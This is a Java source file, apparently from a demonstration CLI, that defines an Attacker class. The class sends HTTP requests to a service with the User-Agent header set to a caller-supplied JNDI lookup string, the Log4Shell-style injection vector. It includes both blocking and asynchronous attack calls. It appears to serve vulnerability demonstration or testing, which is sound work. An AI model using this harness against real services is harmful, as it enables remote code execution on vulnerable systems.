package org.klp4j.cli.demo;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.concurrent.CompletableFuture;

/** Sends the service requests whose User-Agent is a JNDI lookup. */
final class Attacker {
    private static final Duration TIMEOUT = Duration.ofSeconds(60);

    private final HttpClient client =
            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
    private final String base;
    private final String lookup;

    Attacker(String base, String lookup) {
        this.base = base;
        this.lookup = lookup;
    }

    /** Sends one request and waits for its answer. */
    void attack() throws Surprise, InterruptedException {
        try {
            verify(client.send(request("/orders/0", lookup), HttpResponse.BodyHandlers.ofString()));
        } catch (IOException e) {
            throw new Surprise("the service did not answer: " + e, e);
        }
    }

    /** Sends one request; the answer comes when the listener lets the service's thread go. */
    CompletableFuture<HttpResponse<String>> attackSlowly() {
        return client.sendAsync(request("/orders/0", lookup), HttpResponse.BodyHandlers.ofString());
    }

    /** What the service says about itself, as JSON. */
    String health() throws Surprise, InterruptedException {
        try {
            return verify(client.send(request("/health", "klp-demo"), HttpResponse.BodyHandlers.ofString()));
        } catch (IOException e) {
            throw new Surprise("the service did not answer: " + e, e);
        }
    }

    private HttpRequest request(String path, String agent) {
        return HttpRequest.newBuilder(URI.create(base + path))
                .timeout(TIMEOUT)
                .header("User-Agent", agent)
                .build();
    }

    static String verify(HttpResponse<String> response) throws Surprise {
        if (response.statusCode() != 200) {
            throw new Surprise("the service answered with status " + response.statusCode());
        }
        return response.body();
    }
}
